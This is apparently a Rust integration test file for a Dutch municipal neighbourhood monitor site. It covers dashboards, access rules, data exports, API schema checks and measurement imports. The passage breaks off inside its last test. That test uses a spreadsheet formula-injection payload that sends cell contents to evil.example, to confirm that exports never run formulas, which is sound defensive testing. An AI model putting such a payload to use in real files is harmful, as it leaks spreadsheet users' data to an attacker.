//! The neighbourhood monitor through the site's real interface, on SQLite and PostgreSQL: the
//! dashboard pages on the demo, what the public may and may not see, the exports and the JSON
//! API, and importing measurements — good files change the figures, bad files change nothing.

#![allow(clippy::unwrap_used)] // a failing unwrap is a failing test

use crate::support;

use std::collections::BTreeSet;

use axum::http::StatusCode;
use serde_json::Value;
use wijkbeeld_domain::access::Role;
use wijkbeeld_store::backend_test;
use wijkbeeld_store::monitor::{self as stored, MeasurementFilter};
use wijkbeeld_store::statistics;

use support::{Reply, TestSite, Visitor, value_of};

/// Step 1 of the import: sends a file to the form; answers the form's reply and, when it
/// redirected to the file's preview, that page (as the visitor's browser would show it).
pub(crate) async fn check_file(
    site: &TestSite,
    visitor: &mut Visitor,
    fields: &[(&str, &str)],
    name: &str,
    bytes: &[u8],
) -> (Reply, Option<Reply>) {
    let sent = site.post_multipart("/monitor/importeren", fields, &[("bestand", name, bytes)], visitor).await;
    if sent.status != StatusCode::SEE_OTHER {
        return (sent, None);
    }
    visitor.take_cookies(&sent);
    let preview = site.get(sent.header("location"), visitor).await;
    visitor.take_cookies(&preview);
    (sent, Some(preview))
}

/// Both steps of the import: checks a file and stores it with its preview's "Opslaan"; answers
/// the preview and the page the store lands on.
pub(crate) async fn import_file(
    site: &TestSite,
    visitor: &mut Visitor,
    fields: &[(&str, &str)],
    name: &str,
    bytes: &[u8],
) -> (Reply, Reply) {
    let (sent, preview) = check_file(site, visitor, fields, name, bytes).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let preview = preview.unwrap();
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    let stored = site.post(sent.header("location"), &[], visitor).await;
    assert_eq!(stored.status, StatusCode::SEE_OTHER, "{}", stored.body);
    assert_eq!(stored.header("location"), "/monitor/importeren");
    visitor.take_cookies(&stored);
    let landed = site.get("/monitor/importeren", visitor).await;
    visitor.take_cookies(&landed);
    (preview, landed)
}

/// Every row count and the monitor's data version: what "nothing changed" means.
async fn fingerprint(site: &TestSite) -> (std::collections::BTreeMap<&'static str, i64>, i64, Vec<f64>) {
    let mut tx = site.store.begin().await.unwrap();
    let counts = statistics::row_counts(&mut tx).await.unwrap();
    let version = stored::data_version(&mut tx).await.unwrap();
    let values = stored::measurements(&mut tx, site.body, &MeasurementFilter::default())
        .await
        .unwrap()
        .into_iter()
        .map(|measurement| measurement.value)
        .collect();
    (counts, version, values)
}

/// The latest year with demo figures.
async fn latest_year(site: &TestSite) -> i32 {
    let mut tx = site.store.begin().await.unwrap();
    let periods = stored::periods(&mut tx, site.body, wijkbeeld_domain::area::AreaLevel::District).await.unwrap();
    periods.last().unwrap().year_number()
}

backend_test! {
    async fn the_dashboard_shows_every_wijk_with_its_index_cards_charts_and_targets(database) {
        let site = TestSite::with_demo(database).await;
        let public = Visitor::anonymous(&site, "10.50.0.1:4000").await;

        let overview = site.get("/monitor", &public).await;
        assert_eq!(overview.status, StatusCode::OK, "{}", overview.body);
        for wijk in ["Hengelose Es", "Berflo Es", "Groot Driene"] {
            assert!(overview.body.contains(wijk), "{wijk} missing from the overview");
        }
        assert!(overview.body.contains("synthetisch"), "demo figures must say they are synthetic");
        assert!(overview.body.contains("<figure id=\"kaart-index\" class=\"tiles\""), "the overview has a map of tiles");
        assert!(overview.body.contains("aria-sort=\"ascending\"") || overview.body.contains("aria-sort=\"none\""));
        assert!(!overview.body.contains("/monitor/importeren"), "the public cannot import");

        // Sorting by index, best first: the first row's index is at least the second's.
        let sorted = site.get("/monitor?niveau=wijk&sorteer=index&richting=af", &public).await;
        assert!(sorted.body.contains("aria-sort=\"descending\""));

        let profile = site.get("/monitor/gebied/WK016401", &public).await;
        assert_eq!(profile.status, StatusCode::OK, "{}", profile.body);
        assert!(profile.body.contains("Hengelose Es") && profile.body.contains("Wijkindex"));
        assert!(profile.body.contains("Voelt zich veilig in de buurt"), "a card per indicator");
        assert!(profile.body.contains("class=\"monitor-card\""));
        assert!(profile.body.contains("role=\"img\""), "sparklines and the theme chart are images with a name");
        assert!(profile.body.contains("stedelijk doel") || profile.body.contains("nulmeting"), "targets are shown");
        assert!(profile.body.contains("/monitor/gebied/BU01640101"), "the buurten of the wijk are listed");
        assert!(!profile.body.contains("INZET_BUURT"), "a candidate indicator is not public");

        let indicator = site.get("/monitor/indicator/VEILIGHEIDSBELEVING", &public).await;
        assert_eq!(indicator.status, StatusCode::OK, "{}", indicator.body);
        assert!(indicator.body.contains("Veiligheidsmonitor"));
        assert_eq!(indicator.body.matches("<svg").count(), 2, "bars and lines");
        assert!(indicator.body.contains("<figure id=\"kaart\" class=\"tiles\""), "and a map of tiles");
        let buurten = site.get("/monitor/indicator/VEILIGHEIDSBELEVING?niveau=buurt", &public).await;
        assert_eq!(buurten.status, StatusCode::OK);
        assert!(buurten.body.contains("&#39;t Wilbert") || buurten.body.contains("'t Wilbert"));

        let report = site.get("/monitor/gebied/WK016401/rapportage", &public).await;
        assert_eq!(report.status, StatusCode::OK);
        assert!(report.body.contains("Wijkrapportage Hengelose Es"));
        assert!(report.body.contains("<details class=\"monitor-card__series\" open>"), "the report prints every series");

        let method = site.get("/monitor/methode", &public).await;
        assert_eq!(method.status, StatusCode::OK);
        assert!(method.body.contains("100 + 10 · d · (x − μ) / σ"));

        assert_eq!(site.get("/monitor/gebied/WK999999", &public).await.status, StatusCode::NOT_FOUND);
        assert_eq!(site.get("/monitor/indicator/INZET_BUURT", &public).await.status, StatusCode::NOT_FOUND);
        assert_eq!(site.get("/monitor?periode=1850", &public).await.status, StatusCode::NOT_FOUND);
        assert_eq!(site.get("/monitor?niveau=provincie", &public).await.status, StatusCode::NOT_FOUND);

        // Staff see the candidate indicator, marked as such.
        let college = Visitor::signed_in(&site, Role::College, "10.50.0.2:4000").await;
        let staff_profile = site.get("/monitor/gebied/WK016401", &college).await;
        assert!(staff_profile.body.contains("Kandidaat-indicator"), "{}", staff_profile.body);
        assert_eq!(site.get("/monitor/indicator/INZET_BUURT", &college).await.status, StatusCode::OK);
        assert!(site.get("/monitor", &college).await.body.contains("/monitor/importeren"));
    }
}

backend_test! {
    async fn tables_download_as_csv_xlsx_and_geojson(database) {
        let site = TestSite::with_demo(database).await;
        let public = Visitor::anonymous(&site, "10.50.1.1:4000").await;

        let csv = site.get("/monitor/export/overzicht.csv?niveau=wijk", &public).await;
        assert_eq!(csv.status, StatusCode::OK);
        assert!(csv.header("content-type").starts_with("text/csv"));
        assert!(csv.header("content-disposition").contains("attachment"));
        let lines: Vec<&str> = csv.body.lines().collect();
        assert_eq!(lines.len(), 1 + 10 + 1, "a header, ten wijken and the city");
        assert!(lines[0].starts_with("\u{feff}Code;Gebied;Wijkindex;"));

        let xlsx = site.get("/monitor/indicator/MISDRIJVEN/data.xlsx", &public).await;
        assert_eq!(xlsx.status, StatusCode::OK);
        assert!(xlsx.header("content-type").contains("spreadsheetml"));

        let profile_csv = site.get("/monitor/gebied/WK016401/data.csv", &public).await;
        assert_eq!(profile_csv.status, StatusCode::OK);
        assert!(profile_csv.body.contains("VEILIGHEIDSBELEVING"));
        assert!(!profile_csv.body.contains("INZET_BUURT"));

        let geojson = site.get("/monitor/indicator/MISDRIJVEN/gebieden.geojson?niveau=buurt", &public).await;
        assert_eq!(geojson.status, StatusCode::OK);
        let document: serde_json::Value = serde_json::from_str(&geojson.body).unwrap();
        assert_eq!(document["type"], "FeatureCollection");
        assert_eq!(document["features"].as_array().unwrap().len(), 62, "every buurt of Hengelo");
        assert_eq!(site.get("/monitor/indicator/MISDRIJVEN/data.pdf", &public).await.status, StatusCode::NOT_FOUND);
    }
}

backend_test! {
    async fn the_api_gives_areas_indicators_measurements_and_analysis(database) {
        let site = TestSite::with_demo(database).await;
        let public = Visitor::anonymous(&site, "10.50.2.1:4000").await;
        let json = |body: &str| serde_json::from_str::<serde_json::Value>(body).unwrap();

        let areas = json(&site.get("/api/v1/areas?level=wijk", &public).await.body);
        assert_eq!(areas.as_array().unwrap().len(), 10);
        assert_eq!(areas[0]["parent"], "GM0164");

        let indicators = json(&site.get("/api/v1/indicators", &public).await.body);
        assert!(indicators.as_array().unwrap().iter().all(|indicator| indicator["status"] == "vastgesteld"));

        let year = latest_year(&site).await;
        let page = json(
            &site.get(&format!("/api/v1/measurements?area=WK016401&indicator=MISDRIJVEN&from={}&until={year}", year - 1), &public)
                .await
                .body,
        );
        assert_eq!(page["items"].as_array().unwrap().len(), 2);
        assert_eq!(page["more"], false);
        let paged = json(&site.get("/api/v1/measurements?level=buurt&limit=5", &public).await.body);
        assert_eq!(paged["items"].as_array().unwrap().len(), 5);
        assert_eq!(paged["more"], true);
        let hidden = json(&site.get("/api/v1/measurements?limit=10000", &public).await.body);
        assert!(hidden["items"].as_array().unwrap().iter().all(|item| item["indicator"] != "INZET_BUURT"));
        assert_eq!(site.get("/api/v1/measurements?limit=0", &public).await.status, StatusCode::BAD_REQUEST);
        assert_eq!(site.get("/api/v1/measurements?from=gisteren", &public).await.status, StatusCode::BAD_REQUEST);
        assert_eq!(site.get("/api/v1/measurements?indicator=INZET_BUURT", &public).await.status, StatusCode::NOT_FOUND);

        let analysis = json(&site.get("/api/v1/areas/WK016401/analysis", &public).await.body);
        assert_eq!(analysis["area"], "WK016401");
        assert_eq!(analysis["period"], year.to_string());
        assert!(analysis["index"].is_number());
        assert!(analysis["themes"]["veiligheid"].is_number());
        let first = &analysis["indicators"][0];
        for field in ["code", "theme", "value", "score", "target_status", "trend_per_year"] {
            assert!(first.get(field).is_some(), "{field} missing");
        }

        let openapi = json(&site.get("/api/v1/openapi.json", &public).await.body);
        assert!(openapi["paths"]["/api/v1/measurements"]["get"].is_object());

        // What is sent has exactly the shape the document gives it.
        let all_areas = json(&site.get("/api/v1/areas", &public).await.body);
        assert!(all_areas.as_array().unwrap().iter().any(|area| area["parent"].is_null()), "the gemeente has no parent");
        conforms(&openapi, &answer(&openapi, "/api/v1/areas"), &all_areas, "areas");
        conforms(&openapi, &answer(&openapi, "/api/v1/indicators"), &indicators, "indicators");
        conforms(&openapi, &answer(&openapi, "/api/v1/areas/{code}/analysis"), &analysis, "analysis");
        conforms(&openapi, &answer(&openapi, "/api/v1/measurements"), &page, "measurements");
    }
}

/// The schema of the body that `path` answers with 200.
fn answer(document: &Value, path: &str) -> Value {
    document["paths"][path]["get"]["responses"]["200"]["content"]["application/json"]["schema"].clone()
}

/// Whether `schema` allows `null`: a 3.1 type list with "null", or a `oneOf` with a null branch.
fn is_nullable(schema: &Value) -> bool {
    let null_type = |schema: &Value| match &schema["type"] {
        Value::String(kind) => kind == "null",
        Value::Array(kinds) => kinds.iter().any(|kind| kind == "null"),
        _ => false,
    };
    null_type(schema) || schema["oneOf"].as_array().is_some_and(|branches| branches.iter().any(null_type))
}

/// Asserts that `value`, found at `at`, is what `schema` in `document` describes: an object has
/// exactly the properties listed and every non-nullable one is required, a code is one of its
/// vocabulary's, a map's keys are what its `propertyNames` allows; and so on down.
fn conforms(document: &Value, schema: &Value, value: &Value, at: &str) {
    if let Some(reference) = schema["$ref"].as_str() {
        let target = document.pointer(reference.trim_start_matches('#'));
        let target = target.unwrap_or_else(|| panic!("{at}: {reference} does not resolve"));
        return conforms(document, target, value, at);
    }
    if let Some(branches) = schema["oneOf"].as_array() {
        if value.is_null() {
            assert!(is_nullable(schema), "{at}: null, but {schema} is not nullable");
            return;
        }
        let others: Vec<&Value> = branches.iter().filter(|branch| branch["type"] != "null").collect();
        assert_eq!(others.len(), 1, "{at}: {schema} is more than a nullable schema");
        return conforms(document, others[0], value, at);
    }
    let kinds: Vec<&str> = match &schema["type"] {
        Value::String(kind) => vec![kind.as_str()],
        Value::Array(kinds) => kinds.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    };
    let kind = match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(number) if number.is_f64() => "number",
        Value::Number(_) => "integer",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    let allowed = kinds.is_empty() || kinds.contains(&kind) || (kind == "integer" && kinds.contains(&"number"));
    assert!(allowed, "{at}: {value} is a {kind}, the schema says {kinds:?}");
    if let Some(codes) = schema["enum"].as_array() {
        assert!(codes.contains(value), "{at}: {value} is not one of {codes:?}");
    }
    match value {
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                conforms(document, &schema["items"], item, &format!("{at}[{index}]"));
            }
        }
        Value::Object(fields) => {
            if let Some(properties) = schema["properties"].as_object() {
                let sent: BTreeSet<&String> = fields.keys().collect();
                let described: BTreeSet<&String> = properties.keys().collect();
                assert_eq!(sent, described, "{at}: the properties sent and described differ");
                let required: Vec<&str> = schema["required"]
                    .as_array()
                    .map(|names| names.iter().filter_map(Value::as_str).collect())
                    .unwrap_or_default();
                for (name, property) in properties {
                    let needed = required.contains(&name.as_str()) || is_nullable(property);
                    assert!(needed, "{at}.{name} is never null, so it must be required");
                    conforms(document, property, &fields[name], &format!("{at}.{name}"));
                }
            } else {
                assert!(
                    schema.get("additionalProperties").is_some(),
                    "{at}: an object with neither properties nor a map's values"
                );
                for (key, field) in fields {
                    conforms(
                        document,
                        &schema["propertyNames"],
                        &Value::String(key.clone()),
                        &format!("{at} key {key}"),
                    );
                    conforms(document, &schema["additionalProperties"], field, &format!("{at}.{key}"));
                }
            }
        }
        _ => {}
    }
}

const GOOD_LONG: &str = "area_code;indicator;period;value;sample_size;margin\n\
                         WK016401;VEILIGHEIDSBELEVING;2030;81,5;420;2,1\n\
                         WK016402;veiligheidsbeleving;2030;77,0;;\n\
                         BU01640101;MISDRIJVEN;2030-Q1;12,25;;\n";

backend_test! {
    async fn a_long_csv_imports_and_a_second_import_replaces_and_is_audited(database) {
        let site = TestSite::with_demo(database).await;
        let mut college = Visitor::signed_in(&site, Role::College, "10.50.3.1:4000").await;
        let form = site.get("/monitor/importeren", &college).await;
        assert_eq!(form.status, StatusCode::OK);

        let (preview, landed) = import_file(&site, &mut college, &[], "metingen.csv", GOOD_LONG.as_bytes()).await;
        assert!(preview.body.contains("3 meetwaarden voor 2030, 2030-Q1: 3 nieuw, 0 gewijzigd"), "{}", preview.body);
        assert!(landed.body.contains("3 meetwaarden zijn opgeslagen."), "{}", landed.body);
        assert_eq!(value_of(&site, "WK016401", "VEILIGHEIDSBELEVING", "2030").await, Some(81.5));
        assert_eq!(value_of(&site, "BU01640101", "MISDRIJVEN", "2030-Q1").await, Some(12.25));

        let again = "\u{feff}area_code,indicator,period,value\nWK016401,VEILIGHEIDSBELEVING,2030,82.0\n";
        let (preview, _) = import_file(&site, &mut college, &[], "correctie.csv", again.as_bytes()).await;
        assert!(preview.body.contains("0 nieuw, 1 gewijzigd, 0 ongewijzigd"), "{}", preview.body);
        assert!(preview.body.contains("<del>81,5</del> → <strong>82,0</strong>"), "{}", preview.body);
        assert_eq!(value_of(&site, "WK016401", "VEILIGHEIDSBELEVING", "2030").await, Some(82.0));

        let admin = Visitor::with_session(&site, Role::Admin, "10.50.3.2:4000").await;
        let audit = site.get("/audit?entiteit=measurements", &admin).await;
        assert_eq!(audit.body.matches("measurements.import").count(), 2, "{}", audit.body);

        // Other roles may not import.
        let griffie = Visitor::signed_in(&site, Role::Griffie, "10.50.3.3:4000").await;
        let refused = site
            .post_multipart("/monitor/importeren", &[], &[("bestand", "metingen.csv", GOOD_LONG.as_bytes())], &griffie)
            .await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN);
    }
}

backend_test! {
    async fn a_cbs_table_imports_through_its_column_mapping(database) {
        let site = TestSite::with_demo(database).await;
        {
            let mut tx = site.store.begin_write().await.unwrap();
                        let indicators = stored::indicators(&mut tx, site.body).await.unwrap();
            let energy = indicators.iter().find(|indicator| indicator.code == "ENERGIELABEL_A").unwrap();
            stored::set_cbs_mapping(&mut tx, site.body, "Koopwoningen", Some(energy.id)).await.unwrap();
            tx.commit().await.unwrap();
        }
        let mut college = Visitor::signed_in(&site, Role::College, "10.50.4.1:4000").await;
        let table = "ID;WijkenEnBuurten;Gemeentenaam_1;SoortRegio_2;Codering_3;AantalInwoners_5;Koopwoningen_47\n\
                     1;NL00      ;Nederland;Land;NL00;17811291;57\n\
                     2;GM0164    ;Hengelo;Gemeente;GM0164;87012;55\n\
                     3;WK016401  ;Hengelo;Wijk;WK016401;9120;61,5\n\
                     4;BU01640101;Hengelo;Buurt;BU01640101;1200;.\n";
        let without_period =
            site.post_multipart("/monitor/importeren", &[], &[("bestand", "kwb.csv", table.as_bytes())], &college).await;
        assert_eq!(without_period.status, StatusCode::UNPROCESSABLE_ENTITY, "a CBS table needs its period");

        let (preview, _) = import_file(&site, &mut college, &[("periode", "2031")], "kwb.csv", table.as_bytes()).await;
        assert_eq!(value_of(&site, "WK016401", "ENERGIELABEL_A", "2031").await, Some(61.5));
        assert_eq!(value_of(&site, "GM0164", "ENERGIELABEL_A", "2031").await, Some(55.0));
        assert!(preview.body.contains("1 waarde is als ontbrekend gemarkeerd"), "{}", preview.body);
        assert!(preview.body.contains("Ook het aantal inwoners van 3 gebieden wordt bijgewerkt."), "{}", preview.body);
        let mut tx = site.store.begin().await.unwrap();
        let areas = stored::areas(&mut tx, site.body).await.unwrap();
        let wijk = areas.iter().find(|area| area.code.as_str() == "WK016401").unwrap();
        let populations = stored::populations(&mut tx, site.body, &[wijk.id]).await.unwrap();
        assert!(populations.iter().any(|population| population.period.year_number() == 2031 && population.inhabitants == 9120));
    }
}

backend_test! {
    async fn a_bad_file_is_refused_with_line_numbered_reasons_and_nothing_changes(database) {
        let site = TestSite::with_demo(database).await;
        let college = Visitor::signed_in(&site, Role::College, "10.50.5.1:4000").await;
        let before = fingerprint(&site).await;
        let bad = "area_code,indicator,period,value,sample_size,margin\n\
                   WK016401,VEILIGHEIDSBELEVING,2030,81.5,,\n\
                   WK019999,VEILIGHEIDSBELEVING,2030,70,,\n\
                   WK016402,ONBEKEND,2030,70,,\n\
                   WK016403,VEILIGHEIDSBELEVING,2030,112.5,,\n\
                   WK016404,VEILIGHEIDSBELEVING,2030,veel,,\n\
                   WK016401,VEILIGHEIDSBELEVING,2030,80,,\n\
                   WK016405,VEILIGHEIDSBELEVING,twintig,70,,\n";
        let reply = site.post_multipart("/monitor/importeren", &[], &[("bestand", "fout.csv", bad.as_bytes())], &college).await;
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
        assert!(reply.body.contains("er zijn 6 fouten gevonden"), "{}", reply.body);
        for line in 3..=8 {
            assert!(reply.body.contains(&format!("Regel {line}, kolom ")), "line {line} not named: {}", reply.body);
        }
        assert_eq!(fingerprint(&site).await, before, "a refused file changes nothing");

        let latin1: Vec<u8> = b"area_code,indicator,period,value\nWK016401,VEILIGHEIDSBELEVING,2030,\xe9\n".to_vec();
        for (name, bytes, reason) in [("leeg.csv", Vec::new(), "Kies een bestand"), ("latin1.csv", latin1, "UTF-8")] {
            let reply = site.post_multipart("/monitor/importeren", &[], &[("bestand", name, bytes.as_slice())], &college).await;
            assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
            assert!(reply.body.contains(reason), "{name}: {}", reply.body);
        }
        let reply = site
            .post_multipart("/monitor/importeren", &[("periode", "vorig jaar")], &[("bestand", "goed.csv", GOOD_LONG.as_bytes())], &college)
            .await;
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(reply.body.contains("value=\"vorig jaar\""), "the form keeps what was typed");
        assert_eq!(fingerprint(&site).await, before);
    }
}

/// The fields of a good indicator form, with `code` and `name`.
fn indicator_fields<'a>(code: &'a str, name: &'a str, programme: &'a str, partner: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        ("code", code),
        ("name", name),
        ("definition", "Aandeel bewoners dat het afgelopen jaar een buurtactiviteit bezocht."),
        ("unit", "percentage"),
        ("direction", "hoger_is_beter"),
        ("theme", "participatie"),
        ("kind", "subjectief"),
        ("source", "Wijkenquête"),
        ("owner", partner),
        ("status", "kandidaat"),
        ("programme", programme),
        ("is_key", "ja"),
        ("decimals", "1"),
    ]
}

async fn indicator_count(site: &TestSite) -> usize {
    let mut tx = site.store.begin().await.unwrap();
    stored::indicators(&mut tx, site.body).await.unwrap().len()
}

backend_test! {
    async fn the_college_creates_and_edits_indicators_and_bad_forms_change_nothing(database) {
        let site = TestSite::with_demo(database).await;
        let college = Visitor::signed_in(&site, Role::College, "10.50.6.1:4000").await;
        let (programme, partner) = {
            let mut tx = site.store.begin().await.unwrap();
            let programme = stored::programmes(&mut tx, site.body).await.unwrap()[0].id.to_string();
            let partner = wijkbeeld_store::partners::list(&mut tx, site.body).await.unwrap()[0].id.to_string();
            (programme, partner)
        };
        assert!(site.get("/monitor", &college).await.body.contains("/monitor/indicatoren"));
        let list = site.get("/monitor/indicatoren", &college).await;
        assert_eq!(list.status, StatusCode::OK, "{}", list.body);
        assert!(list.body.contains("VEILIGHEIDSBELEVING") && list.body.contains("/monitor/indicatoren/nieuw"));
        assert_eq!(site.get("/monitor/indicatoren/nieuw", &college).await.status, StatusCode::OK);

        // Created: lower case is upper-cased; to the indicator's page.
        let before = indicator_count(&site).await;
        let fields = indicator_fields("buurt_activiteit", "Bezoekt buurtactiviteiten", &programme, &partner);
        let created = site.post("/monitor/indicatoren/nieuw", &fields, &college).await;
        assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
        assert_eq!(created.header("location"), "/monitor/indicator/BUURT_ACTIVITEIT");
        assert_eq!(indicator_count(&site).await, before + 1);
        let list = site.get("/monitor/indicatoren", &college).await;
        assert!(list.body.contains("BUURT_ACTIVITEIT") && list.body.contains("Bezoekt buurtactiviteiten"));
        let page = site.get("/monitor/indicator/BUURT_ACTIVITEIT", &college).await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
        {
            let mut tx = site.store.begin().await.unwrap();
            let indicators = stored::indicators(&mut tx, site.body).await.unwrap();
            let stored_indicator = indicators.iter().find(|indicator| indicator.code == "BUURT_ACTIVITEIT").unwrap();
            assert!(stored_indicator.is_key && !stored_indicator.is_published);
            assert_eq!(stored_indicator.owner_partner_id.unwrap().to_string(), partner);
            let links = stored::indicator_programmes(&mut tx, site.body).await.unwrap();
            assert_eq!(
                links.iter().filter(|(id, _)| *id == stored_indicator.id).map(|(_, p)| p.to_string()).collect::<Vec<_>>(),
                vec![programme.clone()]
            );
        }

        // Edited: the form shows the stored values; a changed name shows.
        let form = site.get("/monitor/indicatoren/BUURT_ACTIVITEIT/bewerken", &college).await;
        assert_eq!(form.status, StatusCode::OK, "{}", form.body);
        assert!(form.body.contains("value=\"Bezoekt buurtactiviteiten\""), "{}", form.body);
        let mut fields = indicator_fields("BUURT_ACTIVITEIT", "Bezoekt activiteiten in de buurt", &programme, "");
        fields.retain(|(field, _)| *field != "programme");
        fields.push(("is_published", "ja"));
        fields.push(("status", "vastgesteld"));
        fields.retain(|pair| *pair != ("status", "kandidaat"));
        let edited = site.post("/monitor/indicatoren/BUURT_ACTIVITEIT/bewerken", &fields, &college).await;
        assert_eq!(edited.status, StatusCode::SEE_OTHER, "{}", edited.body);
        let list = site.get("/monitor/indicatoren", &college).await;
        assert!(list.body.contains("Bezoekt activiteiten in de buurt"), "{}", list.body);
        let public = Visitor::anonymous(&site, "10.50.6.9:4000").await;
        assert_eq!(site.get("/monitor/indicator/BUURT_ACTIVITEIT", &public).await.status, StatusCode::OK, "adopted and published");
        {
            let mut tx = site.store.begin().await.unwrap();
            let indicators = stored::indicators(&mut tx, site.body).await.unwrap();
            let edited = indicators.iter().find(|indicator| indicator.code == "BUURT_ACTIVITEIT").unwrap();
            assert!(edited.owner_partner_id.is_none());
            let links = stored::indicator_programmes(&mut tx, site.body).await.unwrap();
            assert!(!links.iter().any(|(id, _)| *id == edited.id), "the programme links are replaced");
        }

        // A name with a control character is refused with its field.
        let nul = indicator_fields("NUL_TEKEN", "Nul\u{0}teken", &programme, "");
        let refused = site.post("/monitor/indicatoren/nieuw", &nul, &college).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(refused.body.contains("href=\"#name\"") && refused.body.contains("tekens in die niet getypt worden"), "{}", refused.body);

        // A bad form: every problem named, everything typed kept, nothing changed.
        let unchanged = fingerprint(&site).await;
        let mut bad = indicator_fields("ab cd", "", &programme, &partner);
        bad.retain(|(field, _)| *field != "decimals");
        bad.push(("decimals", "9"));
        bad.push(("programme", "999999"));
        let refused = site.post("/monitor/indicatoren/nieuw", &bad, &college).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", refused.body);
        for message in [
            "Vul een code in van 2 tot 40 tekens",
            "Vul de naam van de indicator in.",
            "Vul een aantal decimalen in van 0 tot en met 6.",
            "Kies alleen ontwikkelopgaven uit de lijst.",
        ] {
            assert!(refused.body.contains(message), "{message}: {}", refused.body);
        }
        assert!(refused.body.contains("value=\"ab cd\"") && refused.body.contains("value=\"9\""), "{}", refused.body);
        assert!(refused.body.contains("Wijkenquête") && refused.body.contains("buurtactiviteit bezocht"));
        assert!(refused.body.contains(&format!("value=\"{programme}\" checked")), "the programme stays ticked");
        assert!(refused.body.contains("href=\"#code\"") && refused.body.contains("href=\"#decimals\""));
        assert_eq!(fingerprint(&site).await, unchanged, "a refused form changes nothing");

        // A code already used, in any case, is refused on create and on edit.
        let duplicate = indicator_fields("veiligheidsbeleving", "Nog een", &programme, "");
        let refused = site.post("/monitor/indicatoren/nieuw", &duplicate, &college).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", refused.body);
        assert!(refused.body.contains("Er is al een indicator met deze code"), "{}", refused.body);
        let refused = site.post("/monitor/indicatoren/BUURT_ACTIVITEIT/bewerken", &duplicate, &college).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", refused.body);
        assert_eq!(fingerprint(&site).await, unchanged);
        assert_eq!(
            site.get("/monitor/indicatoren/ONBEKEND/bewerken", &college).await.status,
            StatusCode::NOT_FOUND
        );

        // The griffie may not keep indicators.
        let griffie = Visitor::signed_in(&site, Role::Griffie, "10.50.6.2:4000").await;
        let unchanged = fingerprint(&site).await;
        assert_eq!(site.get("/monitor/indicatoren", &griffie).await.status, StatusCode::FORBIDDEN);
        let fields = indicator_fields("GRIFFIE_CODE", "Van de griffie", &programme, "");
        assert_eq!(site.post("/monitor/indicatoren/nieuw", &fields, &griffie).await.status, StatusCode::FORBIDDEN);
        assert_eq!(
            site.post("/monitor/indicatoren/BUURT_ACTIVITEIT/bewerken", &fields, &griffie).await.status,
            StatusCode::FORBIDDEN
        );
        assert_eq!(fingerprint(&site).await, unchanged);

        let admin = Visitor::with_session(&site, Role::Admin, "10.50.6.3:4000").await;
        let audit = site.get("/audit?entiteit=indicator", &admin).await;
        assert_eq!(audit.status, StatusCode::OK);
        assert_eq!(audit.body.matches("indicator.create").count(), 1, "{}", audit.body);
        assert_eq!(audit.body.matches("indicator.update").count(), 1, "{}", audit.body);
    }
}

backend_test! {
    async fn the_wijkrapportage_downloads_as_pdf_and_the_profile_shows_the_wijkagenda(database) {
        let site = TestSite::with_demo(database).await;
        let public = Visitor::anonymous(&site, "10.50.9.1:4000").await;

        let profile = site.get("/monitor/gebied/WK016401", &public).await;
        assert!(profile.body.contains("/monitor/gebied/WK016401/rapportage.pdf"), "the profile links the PDF");
        // The demo puts two priorities on every wijk's agenda, with actions of partners.
        assert!(profile.body.contains("id=\"agenda-heading\">Wijkagenda 20"), "{}", profile.body);
        assert!(profile.body.contains("class=\"monitor-agenda__action\""), "actions are listed");
        assert!(profile.body.contains("Moet bewegen: <a"), "an action links the indicators it should move");

        let pdf = site.get("/monitor/gebied/WK016401/rapportage.pdf", &public).await;
        assert_eq!(pdf.status, StatusCode::OK);
        assert_eq!(pdf.header("content-type"), "application/pdf");
        assert!(pdf.body.starts_with("%PDF"));
        let year = latest_year(&site).await;
        assert!(
            pdf.header("content-disposition").contains(&format!("wijkrapportage-WK016401-{year}.pdf")),
            "{}",
            pdf.header("content-disposition")
        );
        let buurt = site.get(&format!("/monitor/gebied/BU01640101/rapportage.pdf?periode={year}"), &public).await;
        assert_eq!(buurt.status, StatusCode::OK);
        assert!(buurt.body.starts_with("%PDF"));
        assert_eq!(site.get("/monitor/gebied/WK999999/rapportage.pdf", &public).await.status, StatusCode::NOT_FOUND);
    }
}

backend_test! {
    async fn an_indicator_names_the_council_session_that_proposed_it(database) {
        let site = TestSite::with_demo(database).await;
        let public = Visitor::anonymous(&site, "10.50.10.1:4000").await;
        let page = site.get("/monitor/indicator/VEILIGHEIDSBELEVING", &public).await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.body.contains("<dt>Voorgesteld in</dt>"), "{}", page.body);
        assert!(page.body.contains("Wijkgericht werken"), "the seed's session is named");
        // Another indicator was not proposed in a session and says nothing of it.
        let other = site.get("/monitor/indicator/MISDRIJVEN", &public).await;
        assert!(!other.body.contains("Voorgesteld in"));
    }
}

backend_test! {
    async fn exports_run_no_formulas_and_every_buurt_exports_as_xlsx(database) {
        let site = TestSite::with_demo(database).await;
        let college = Visitor::signed_in(&site, Role::College, "10.50.9.1:4000").await;
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
        let mut fields = indicator_fields("FORMULE", formula, "", "");
        fields.retain(|(field, _)| !["programme", "status"].contains(field));
        fields.extend([("status", "vastgesteld"), ("is_published", "ja")]);
        let created = site.post("/monitor/indicatoren/nieuw", &fields, &college).await;
        assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);

        let public = Visitor::anonymous(&site, "10.50.9.2:4000").await;
        let csv = site.get("/monitor/gebied/WK016401/data.csv", &public).await;
